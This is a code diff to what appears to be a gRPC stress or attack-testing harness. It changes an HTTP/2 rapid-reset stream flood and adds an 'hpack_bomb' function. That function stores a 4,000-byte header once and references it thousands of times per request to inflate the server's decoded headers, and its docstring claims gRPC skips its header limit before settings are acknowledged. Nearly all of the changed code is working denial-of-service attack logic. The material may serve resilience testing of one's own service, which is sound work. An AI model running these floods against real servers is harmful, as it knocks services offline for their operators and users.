@@ -11,11 +11,12 @@ import grpc
 from grpc_health.v1 import health_pb2, health_pb2_grpc
 
 from neighbours.attacking import Attack, hold_streams
-from neighbours.raw_http2 import RawConnection, request_headers
+from neighbours.raw_http2 import EMPTY, LAST_KEPT, RawConnection, kept_header, request_headers
 
 _READ = "/routetrace.v1.TraceService/GetTrace"
 _CHECK = "/grpc.health.v1.Health/Check"
 _PER_CHANNEL = 500
+_LARGE = kept_header(b"x-large", b"x" * 4000)
 
 
 def rapid_reset(
@@ -38,15 +39,13 @@ def _open_raw(
     opened: list[RawConnection] = []
 
     def flood(_: int) -> None:
-        try:
-            connection = RawConnection(attack.access.target, attack.access.ca_file, source)
-        except OSError:
-            attack.count("connections refused")
+        if (connection := _connect(attack, source)) is None:
             return
         opened.append(connection)
         left = streams // connections
         while left > 0 and not attack.over and not connection.closed.is_set():
-            sent = connection.open(headers, min(left, 1000), reset=reset)
+            message = EMPTY if reset else b""
+            sent = connection.open(headers, min(left, 1000), reset=reset, message=message)
             attack.count("streams", sent)
             left -= sent
 
@@ -54,9 +53,38 @@ def _open_raw(
     if not reset:
         attack.pause()
     for connection in opened:
-        attack.count("streams refused", connection.refused)
-        attack.count("connections closed by the server", connection.closed.is_set())
-        connection.close()
+        _leave(attack, connection)
+
+
+def hpack_bomb(
+    attack: Attack, frames: int = 1050, named: int = 2000, source: str = "127.0.0.1"
+) -> None:
+    """Name a header of 4,000 bytes thousands of times in each call, in one byte each.
+
+    gRPC keeps to its limit of decoded headers once its peer has acknowledged it: this one does not.
+    """
+    headers = request_headers(_READ)
+    attack.prepared()
+    if connection := _connect(attack, source, settled=False):
+        attack.count("streams", connection.open(headers + _LARGE, 1))
+        bomb = headers + LAST_KEPT * named
+        attack.count("streams", connection.open(bomb, frames))
+        attack.pause()
+        _leave(attack, connection)
+
+
+def _connect(attack: Attack, source: str, *, settled: bool = True) -> RawConnection | None:
+    try:
+        return RawConnection(attack.access.target, attack.access.ca_file, source, settled=settled)
+    except OSError:
+        attack.count("connections refused")
+        return None
+
+
+def _leave(attack: Attack, connection: RawConnection) -> None:
+    attack.count("streams refused", connection.refused)
+    attack.count("connections closed by the server", connection.closed.is_set())
+    connection.close()
 
 
 def watches(attack: Attack, count: int = 20_000) -> None:
